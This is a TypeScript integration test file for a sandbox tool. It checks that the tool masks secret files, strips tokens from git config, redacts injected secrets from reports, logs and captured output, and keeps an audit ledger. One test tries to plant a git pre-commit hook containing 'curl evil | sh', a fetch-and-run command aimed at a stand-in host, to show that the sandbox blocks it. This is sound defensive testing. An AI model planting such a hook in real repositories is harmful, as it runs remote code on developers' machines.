// The policy layer through real bwrap, end to end via `node bin/sbx.js`: secret-looking files in the
// workspace are masked (even from a shell), git hooks cannot be planted, an injected secret reaches
// the command and nothing else (report, ledger, captured output, the host's process list), and
// every run leaves one ledger record. Each probe has its unsandboxed control.
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  killAll,
  makeTestHost,
  requireIntegrationPrerequisites,
  runHost,
  runSbx,
  runSbxRaw,
  SKIP_INTEGRATION,
  startSbx,
  type TestHost,
} from '../../helpers/sbx-cli.js';
import { parseReport } from '../../helpers/report.js';
import type { Report } from '../../../src/report/report.js';

const MARKER = `SBX-PLANTED-${randomBytes(6).toString('hex')}`;
const SECRET = `sk-test-${randomBytes(12).toString('hex')}`;
let t: TestHost;
let ledger: string;

const opts = () => ({ env: { ...t.env, SBX_AUDIT_FILE: ledger }, cwd: t.workspace });
const sh = (script: string): string[] => ['sh', '-c', script];
const ledgerLines = () => (existsSync(ledger) ? readFileSync(ledger, 'utf8').split('\n').filter(Boolean) : []);
const recordsOf = (session: string) =>
  ledgerLines()
    .map((l) => JSON.parse(l) as { sessionId: string; argv: string[]; type: string; exitCode?: number })
    .filter((r) => r.sessionId === session);

describe.skipIf(SKIP_INTEGRATION)(
  'policy layer: sensitive files, secrets, capture, audit ledger (real bwrap via bin/sbx.js)',
  () => {
    beforeAll(() => {
      requireIntegrationPrerequisites();
      t = makeTestHost('policy');
      ledger = join(t.root, 'state', 'audit.jsonl');
      const ws = t.workspace;
      writeFileSync(join(ws, '.env'), `API_KEY=${MARKER}\n`);
      writeFileSync(join(ws, '.env.example'), 'API_KEY=\n');
      writeFileSync(join(ws, 'server.pem'), `-----BEGIN PRIVATE KEY-----\n${MARKER}\n`);
      mkdirSync(join(ws, 'config', 'secrets'), { recursive: true });
      writeFileSync(join(ws, 'config', 'secrets', 'prod.yaml'), `token: ${MARKER}\n`);
      writeFileSync(join(ws, 'notes with spaces.txt'), 'hello\n');
      symlinkSync('.env', join(ws, 'env-link'));
      mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
      writeFileSync(
        join(ws, '.git', 'config'),
        `[remote "origin"]\n\turl = https://x-access-token:${MARKER}@github.com/o/r\n`,
      );
      // The secret store and a profile that injects from it.
      const sbxConfig = join(t.configHome, 'sbx');
      mkdirSync(join(sbxConfig, 'profiles'), { recursive: true });
      writeFileSync(join(sbxConfig, 'secrets.yaml'), `ANTHROPIC_API_KEY: ${SECRET}\n`, { mode: 0o600 });
      chmodSync(join(sbxConfig, 'secrets.yaml'), 0o600);
      writeFileSync(join(sbxConfig, 'profiles', 'withsecret.yaml'), 'extends: default\nsecrets: [ANTHROPIC_API_KEY]\n');
    });
    afterAll(() => t?.cleanup());

    describe('sensitive files in the workspace', () => {
      it('control: the planted files are readable unsandboxed', async () => {
        const r = await runHost(sh('cat .env server.pem config/secrets/prod.yaml env-link .git/config'), opts());
        expect(r.out.split(MARKER)).toHaveLength(6);
      });

      it(".env, *.pem, a secrets/ dir's files and a symlink to .env read empty, even through a shell; .git/config loses its token; .env.example stays readable", async () => {
        const r = await runSbx(
          [
            '--report-fd',
            '3',
            '--',
            ...sh(
              'cat .env server.pem env-link .git/config; echo "rc=$?"; ls -A config/secrets; cat .env.example; cat "notes with spaces.txt"',
            ),
          ],
          { ...opts(), extraStdio: { 3: 'pipe' } },
        );
        expect(r.code).toBe(0);
        expect(r.out + r.err).not.toContain(MARKER);
        // .git/config is shown without the URL's credential (git/git-config.ts); a hinted directory's
        // data files are masked one by one.
        const gitConfig =
          '# sbx: this repository\'s config with credentials removed (URL userinfo, credential helpers, auth headers)\n[remote "origin"]\n\turl = https://github.com/o/r\n';
        expect(r.out).toBe(`${gitConfig}rc=0\nprod.yaml\nAPI_KEY=\nhello\n`);
        const report = parseReport(r.extra[3]!.toString());
        expect(report.masked!.paths.sort()).toEqual(
          ['.env', 'config/secrets/prod.yaml', 'server.pem'].map((p) => join(t.workspace, p)).sort(),
        );
        expect(report.masked!.count).toBe(3);
      });

      it('a masked file cannot be overwritten, and the host copy is untouched', async () => {
        const r = await runSbx(['--', ...sh('echo leaked > .env; echo "rc=$?"')], opts());
        expect(r.out).toBe('rc=2\n');
        expect(r.err).toContain('Read-only file system');
        expect(readFileSync(join(t.workspace, '.env'), 'utf8')).toContain(MARKER);
      });

      it('git hooks cannot be planted (control: the directory is writable unsandboxed)', async () => {
        const r = await runSbx(['--', ...sh('echo "curl evil | sh" > .git/hooks/pre-commit; echo "rc=$?"')], opts());
        expect(r.out).toBe('rc=2\n');
        expect(readdirSync(join(t.workspace, '.git', 'hooks'))).toEqual([]);
        const host = await runHost(sh('touch .git/hooks/probe && rm .git/hooks/probe && echo ok'), opts());
        expect(host.out).toBe('ok\n');
      });
    });

    describe('secrets', () => {
      it('the command gets the value; the report, the ledger and `explain` never show it', async () => {
        const r = await runSbx(
          [
            '-p',
            'withsecret',
            '--report-fd',
            '3',
            '--',
            'sh',
            '-c',
            'test "$ANTHROPIC_API_KEY" = "$1" && echo same',
            'x',
            SECRET,
          ],
          { ...opts(), extraStdio: { 3: 'pipe' } },
        );
        expect(r.out).toBe('same\n');
        const reportText = r.extra[3]!.toString();
        expect(reportText).not.toContain(SECRET);
        const report = parseReport(reportText);
        expect(report.secrets).toEqual(['ANTHROPIC_API_KEY']);
        expect(report.command).toContain('<redacted>');
        const records = recordsOf(report.sessionId);
        expect(records).toHaveLength(1);
        expect(JSON.stringify(records)).not.toContain(SECRET);
        expect(records[0]!.argv).toContain('<redacted>');
        const explained = await runSbxRaw(['explain', '-p', 'withsecret', '--', 'env'], opts());
        expect(explained.out).toContain('secrets   ANTHROPIC_API_KEY');
        expect(explained.out + explained.err).not.toContain(SECRET);
      });

      it('a refused command keeps a typed secret out of the report and stderr too (control: the value is in the argv given)', async () => {
        const r = await runSbx(['-p', 'withsecret', '--report-fd', '3', '--', 'no-such-command-x', SECRET], {
          ...opts(),
          extraStdio: { 3: 'pipe' },
        });
        expect(r.code).toBe(127);
        const reportText = r.extra[3]!.toString();
        expect(reportText).not.toContain(SECRET);
        expect(r.err).not.toContain(SECRET);
        expect(parseReport(reportText).command).toEqual(['no-such-command-x', '<redacted>']);
      });

      it("is in no process's argv on the host while the sandbox runs (ps)", async () => {
        const marker = `${Date.now() % 100000}.71`;
        const started = startSbx(['-p', 'withsecret', '--', ...sh(`sleep ${marker} & echo ready; wait`)], opts());
        try {
          await started.line(/^ready$/);
          const ps = await runHost(['ps', '-eo', 'args'], opts());
          expect(ps.out).toContain(`sleep ${marker}`);
          expect(ps.out).not.toContain(SECRET);
        } finally {
          killAll(['sleep', marker]);
          await started.done;
        }
      });

      it('captured output is scrubbed of it (and of credential-shaped tokens), bounded, with the cut marked', async () => {
        const r = await runSbx(
          [
            '-p',
            'withsecret',
            '--capture',
            '--capture-limit',
            '200',
            '--',
            ...sh(
              'echo "key: $ANTHROPIC_API_KEY"; echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ; seq 1 100; echo oops >&2',
            ),
          ],
          opts(),
        );
        expect(r.code).toBe(0);
        expect(r.out).not.toContain(SECRET);
        const report = parseReport(r.out) as Required<Report>;
        expect(
          report.captured.stdout.text.startsWith('key: [REDACTED:secret.value]\n[REDACTED:pattern.jwt]\n1\n'),
        ).toBe(true);
        expect(report.captured.stdout.redactions.map((h) => h.rule)).toEqual(['secret.value', 'pattern.jwt']);
        expect(report.captured.stdout.droppedBytes).toBeGreaterThan(0);
        // The head and the tail, half the bound each, the cut marked between.
        expect(report.captured.stdout.text).toMatch(/\n\[sbx: \d+ bytes cut here\]\n.*\n99\n100\n$/s);
        expect(report.captured.stderr.text).toBe('oops\n');
      });

      it('captured output keeps the common configuration values a credential-named variable holds', async () => {
        // AWS_PROFILE=default and AWS_REGION=us-east-1 are in most developers' environments: their
        // values are words of ordinary output, never secrets. The secret key beside them is scrubbed.
        const key = `Zx9Qm2Lp${randomBytes(8).toString('hex')}`;
        const env = { ...opts().env, AWS_PROFILE: 'default', AWS_REGION: 'us-east-1', AWS_SECRET_ACCESS_KEY: key };
        const lines = [
          'export default function handler() {}',
          'src/config/default.json',
          'deploying to us-east-1 with profile default',
        ];
        const printed = `printf '%s\\n' ${lines.map((l) => `'${l}'`).join(' ')}; echo "leak ${key}"`;
        const r = await runSbx(['--capture', '--', ...sh(printed)], { ...opts(), env });
        expect(r.code, r.err).toBe(0);
        const report = parseReport(r.out) as Required<Report>;
        expect(report.captured.stdout.text).toBe(`${lines.join('\n')}\nleak [REDACTED:secret.value]\n`);
        expect(report.captured.stdout.redactions).toEqual([{ rule: 'secret.value', count: 1 }]);
      });

      it('without --capture the terminal stream is byte-exact (unscrubbed: the command owns its output)', async () => {
        const r = await runSbx(['-p', 'withsecret', '--', ...sh('printf %s "$ANTHROPIC_API_KEY"')], opts());
        expect(r.out).toBe(SECRET);
      });

      it('a group-readable store is refused before anything runs (125)', async () => {
        const store = join(t.configHome, 'sbx', 'secrets.yaml');
        chmodSync(store, 0o640);
        try {
          const r = await runSbx(['-p', 'withsecret', '--', 'touch', 'should-not-exist'], opts());
          expect(r.code).toBe(125);
          expect(r.err).toContain('secret store');
          expect(existsSync(join(t.workspace, 'should-not-exist'))).toBe(false);
        } finally {
          chmodSync(store, 0o600);
        }
      });
    });

    describe('audit ledger', () => {
      it('one record per run, readable with `sbx log`, filterable by session and violation', async () => {
        const r = await runSbx(['--report-fd', '3', '--', ...sh('exit 3')], { ...opts(), extraStdio: { 3: 'pipe' } });
        expect(r.code).toBe(3);
        const { sessionId } = parseReport(r.extra[3]!.toString());
        const records = recordsOf(sessionId);
        expect(records).toEqual([expect.objectContaining({ type: 'run', exitCode: 3, argv: ['sh', '-c', 'exit 3'] })]);
        const log = await runSbxRaw(['log', '--json', '--session', sessionId], opts());
        expect(
          log.out
            .trim()
            .split('\n')
            .map((l) => JSON.parse(l).sessionId),
        ).toEqual([sessionId]);
        const table = await runSbxRaw(['log', '-n', '1'], opts());
        expect(table.out.split('\n')[0]).toMatch(/^TIME +SESSION +PROFILE +BACKEND +EXIT/);
      });

      it('a refusal is recorded too (SBX_* override: 126, with its violation)', async () => {
        const before = ledgerLines().length;
        const r = await runSbx(['--env', 'SBX_SESSION_ID=forged', '--', 'true'], opts());
        expect(r.code).toBe(126);
        const added = ledgerLines()
          .slice(before)
          .map((l) => JSON.parse(l) as { exitCode: number; error: { code: string } });
        expect(added).toEqual([
          expect.objectContaining({ exitCode: 126, error: expect.objectContaining({ code: 'ENV_RESERVED' }) }),
        ]);
      });

      // Control: a run that ran is found by session (the first test of this block).
      it.each([
        ['an unknown profile (stage 2)', ['-p', 'no-such-profile'], 'PROFILE_NOT_FOUND'],
        ['an SBX_* variable (stage 3)', ['--env', 'SBX_SESSION_ID=forged'], 'ENV_RESERVED'],
      ])(
        'a refusal before the policy exists, %s, is found by `sbx log --session` under its report’s id',
        async (_, flags, code) => {
          const r = await runSbx([...flags, '--report-fd', '3', '--', 'true'], {
            ...opts(),
            extraStdio: { 3: 'pipe' },
          });
          const report = parseReport(r.extra[3]!.toString());
          expect(report.error?.code).toBe(code);
          expect(report.sessionId).not.toBe('');
          const log = await runSbxRaw(['log', '--json', '--session', report.sessionId], opts());
          const found = log.out
            .trim()
            .split('\n')
            .filter(Boolean)
            .map((l) => JSON.parse(l) as { sessionId: string; exitCode: number; error?: { code: string } });
          expect(found).toEqual([
            expect.objectContaining({
              sessionId: report.sessionId,
              exitCode: r.code,
              error: expect.objectContaining({ code }),
            }),
          ]);
        },
      );

      it('--no-audit writes nothing; a ledger inside the workspace is refused (exit 2)', async () => {
        const before = ledgerLines().length;
        expect((await runSbx(['--no-audit', '--', 'true'], opts())).code).toBe(0);
        expect(ledgerLines()).toHaveLength(before);
        const r = await runSbx(['--audit-file', join(t.workspace, 'audit.jsonl'), '--', 'true'], opts());
        expect(r.code).toBe(2);
        expect(r.err).toContain('which the sandbox can write');
      });
    });
  },
);
